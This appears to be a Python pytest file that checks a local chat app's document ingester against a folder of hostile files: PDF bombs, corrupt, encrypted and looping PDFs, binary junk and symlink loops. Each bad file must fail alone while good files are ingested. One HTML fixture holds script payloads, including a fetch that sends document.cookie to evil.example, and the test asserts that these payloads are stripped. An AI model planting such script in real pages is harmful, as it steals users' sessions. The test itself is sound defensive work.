"""A folder of hostile files ingested in one batch through the isolated parser: each bad file
fails (or warns) alone with a message that says what to do, and the rest are ingested."""

from __future__ import annotations

import os
import random
from pathlib import Path

import msgspec
import pytest
from pypdf import PdfReader, PdfWriter

from localchat.config import Settings
from localchat.embedding.embedder import HashEmbedder
from localchat.resources import Resources
from tests.reliability import hostile

GOOD_PDF = hostile.raw_pdf(
    [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources "
        b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream"
        % (len(hostile.TEXT_STREAM), hostile.TEXT_STREAM),
    ]
)

SCRIPT_HTML = """<!doctype html><html><head><title>Widgets</title>
<script>alert('pwned'); fetch('http://evil.example/steal?c=' + document.cookie)</script>
<style>body { background: url(javascript:evil) }</style></head>
<body onload="stealCookies()"><h1>Widget care</h1>
<p>Oil the widget gears monthly.</p>
<iframe src="http://evil.example/frame"></iframe>
<noscript><img src=x onerror=alert(1)></noscript>
<p onclick="alert('click')">Store widgets somewhere dry.</p></body></html>"""


def _pdf_writer_with_text() -> PdfWriter:
    writer = PdfWriter(clone_from=PdfReader(_bytes_io(GOOD_PDF)))
    return writer


def _bytes_io(data: bytes):
    import io

    return io.BytesIO(data)


def _encrypted(user_password: str) -> bytes:
    writer = _pdf_writer_with_text()
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="AES-128")
    out = _bytes_io(b"")
    writer.write(out)
    return out.getvalue()


def _many_pages(count: int) -> bytes:
    writer = _pdf_writer_with_text()
    for _ in range(count - 1):
        writer.add_blank_page(width=612, height=792)
    out = _bytes_io(b"")
    writer.write(out)
    return out.getvalue()


def _blank_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    out = _bytes_io(b"")
    writer.write(out)
    return out.getvalue()


# name → (bytes, expected error code or None when it must be ingested)
def hostile_folder(folder: Path) -> dict[str, str | None]:
    rng = random.Random(7)
    files: dict[str, tuple[bytes, str | None]] = {
        "a-content-bomb.pdf": (hostile.content_stream_bomb_pdf(1_500_000), "parse_timeout"),
        "binary.txt": (bytes(rng.randrange(256) for _ in range(20_000)), "unsupported_file"),
        "corrupt.pdf": (b"%PDF-1.7\n" + bytes(rng.randrange(256) for _ in range(5000)), None),
        "deep-nesting.pdf": (hostile.deeply_nested_pdf(100_000), "corrupt_file"),
        "empty.txt": (b"", "empty_document"),
        "encrypted-empty-password.pdf": (_encrypted(""), None),
        "encrypted.pdf": (_encrypted("secret"), "encrypted_file"),
        "good.pdf": (GOOD_PDF, None),
        "good.md": (b"# Gears\n\nThe gearbox needs synthetic oil every spring.\n", None),
        "latin1.txt": (
            "Caf\xe9 cr\xe8me br\xfbl\xe9e, na\xefve fa\xe7ade.\n".encode("cp1252"),
            None,
        ),
        "lying-page-count.pdf": (hostile.lying_page_count_pdf(10_000_000), None),
        "page-tree-loop.pdf": (hostile.page_tree_loop_pdf(), "corrupt_file"),
        "scan.pdf": (_blank_pdf(), "empty_document"),
        "script.html": (SCRIPT_HTML.encode(), None),
        "too-many-pages.pdf": (_many_pages(30), "file_too_large"),
        "truncated.pdf": (_many_pages(3)[:400], "corrupt_file"),
        "utf16-no-bom.txt": ("plain words here\n".encode("utf-16-le") * 50, None),
    }
    files["corrupt.pdf"] = (files["corrupt.pdf"][0], "corrupt_file")
    for name, (data, _) in files.items():
        hostile.write(folder / name, data)
    # Symlink loops: a folder linking to its parent, and a link to itself.
    (folder / "sub").mkdir()
    (folder / "sub" / "nested.txt").write_text("Nested notes about bearings.\n")
    os.symlink("..", folder / "sub" / "up")
    os.symlink(folder / "self-link.txt", folder / "self-link.txt")
    return {name: code for name, (_, code) in files.items()}


@pytest.fixture
def hostile_settings(settings: Settings) -> Settings:
    ingest = msgspec.structs.replace(
        settings.ingest, parse_timeout_s=3.0, parse_memory_mb=1024, max_pages=20
    )
    return msgspec.structs.replace(settings, ingest=ingest)


def test_each_bad_file_fails_alone_and_the_rest_are_ingested(hostile_settings, tmp_path):
    folder = tmp_path / "hostile"
    expected = hostile_folder(folder)
    runtime = Resources.open(hostile_settings, embedder=HashEmbedder(), isolate_parsing=True)
    try:
        report = runtime.library.ingest([folder])
        by_name = {Path(o.path).name: o for o in report.outcomes}
        for name, code in expected.items():
            outcome = by_name[name]
            if code is None:
                assert outcome.status == "added", (name, outcome)
            else:
                assert (outcome.status, outcome.error_code) == ("failed", code), (name, outcome)
                assert name in outcome.message, outcome.message  # says which file
                assert "(" in outcome.message and outcome.message.endswith(")")  # has a hint
        assert by_name["nested.txt"].status == "added"  # the loop did not stop the walk
        assert len(report.outcomes) == len(expected) + 1  # each file once despite the loop
        store = runtime.store
        assert store.integrity_ok()
        texts = " ".join(row[0] for row in store.read("SELECT text FROM chunks"))
        assert "Caf\u00e9 cr\u00e8me br\u00fbl\u00e9e" in texts  # non-UTF-8 decoded right
        assert "Hostile but readable text" in texts
        assert "Oil the widget gears monthly" in texts
        for payload in ("alert(", "evil.example", "stealCookies", "document.cookie", "onerror"):
            assert payload not in texts, payload  # scripts and handlers are not document text
        failed = {n for n, c in expected.items() if c is not None}
        stored = {Path(d.path).name for d in store.list_documents()}
        assert stored.isdisjoint(failed)
        assert len(runtime.index) == store.read("SELECT count(*) FROM chunks")[0][0]
    finally:
        runtime.close()
